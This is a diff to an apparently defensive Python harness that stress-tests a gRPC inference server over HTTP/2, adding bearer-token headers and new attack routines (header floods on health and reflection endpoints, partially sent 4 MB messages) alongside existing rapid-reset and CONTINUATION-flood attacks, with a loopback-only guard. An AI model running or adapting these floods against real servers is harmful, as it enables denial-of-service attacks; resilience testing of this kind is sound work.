@@ -31,13 +31,14 @@ def headers_of(path, more=()):
 
 
 class Target:
-    """HOST:PORT on loopback; with `authority` (PEM) over TLS."""
+    """HOST:PORT on loopback; with `authority` (PEM) over TLS; with `token` (a bearer token) as somebody whom the server knows."""
 
-    def __init__(self, address, authority=None):
+    def __init__(self, address, authority=None, token=None):
         host, port = address.rsplit(":", 1)
         if not host.startswith("127."):
             raise ValueError(f"{address} is not a loopback address")
         self.address, self.context = (host, int(port)), None
+        self.credentials = (("authorization", f"Bearer {token}"),) if token else ()
         if authority:
             self.context = ssl.create_default_context(cadata=authority.decode())
             self.context.set_alpn_protocols(["h2"])
@@ -83,7 +84,7 @@ def connections(target, stack, sent, count, **named):
 
 def many_streams(target, sent, scale, path, connection_count, per_connection, end=b""):
     """HEADERS on stream after stream; `end`: frames that follow each, made for stream 1."""
-    block = headers_of(path)
+    block = headers_of(path, target.credentials)
     with contextlib.ExitStack() as stack:
         for connection in connections(target, stack, sent, max(1, int(connection_count * scale ** 0.5))):
             for first in range(0, int(per_connection * scale ** 0.5), 100):
@@ -112,6 +113,27 @@ def rapid_reset_classify(target, sent, scale):
 
 def headers_only(target, sent, scale):
     many_streams(target, sent, scale, "/vicinal.v1.InferenceService/Classify", 227, 255)
+
+
+def headers_only_health(target, sent, scale):
+    many_streams(target, sent, scale, "/grpc.health.v1.Health/Check", 227, 255)
+
+
+def reflection_streams(target, sent, scale):
+    many_streams(target, sent, scale, "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", 20, 255)
+
+
+def half_messages(target, sent, scale):
+    """Messages of 4 MB announced, of which what the windows allow unasked is sent."""
+    block = headers_of("/vicinal.v1.InferenceService/Classify", target.credentials)
+    start = b"\0" + struct.pack(">I", 4_000_000)
+    with contextlib.ExitStack() as stack:
+        for connection in connections(target, stack, sent, max(1, int(400 * scale))):
+            data = frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, 0, 1, start)
+            data += frame(DATA, 0, 1, bytes(16_384)) * 3
+            if not sent.send(connection, data):
+                continue
+        time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))
 
 
 def continuation(target, sent, count, size):
@@ -149,7 +171,7 @@ def small_continuations(target, sent, scale):
 
 
 def unread_replies(target, sent, scale):
-    block = headers_of("/vicinal.v1.ServerService/GetCapabilities")
+    block = headers_of("/vicinal.v1.ServerService/GetCapabilities", target.credentials)
     call = [frame(HEADERS, END_HEADERS, 1, block), frame(DATA, END_STREAM, 1, bytes(5))]
     with contextlib.ExitStack() as stack:
         for connection in connections(target, stack, sent, max(1, int(20 * scale)), window=0):
@@ -184,5 +206,6 @@ def idle_connections(target, sent, scale):
         time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))
 
 
-ATTACKS = (streams_without_ack, rapid_reset_watch, rapid_reset_classify, headers_only, continuation_flood, small_continuations,
-           unread_replies, bad_binary_metadata, large_metadata, idle_connections)
+ATTACKS = (streams_without_ack, rapid_reset_watch, rapid_reset_classify, headers_only, headers_only_health, reflection_streams,
+           half_messages, continuation_flood, small_continuations, unread_replies, bad_binary_metadata, large_metadata,
+           idle_connections)
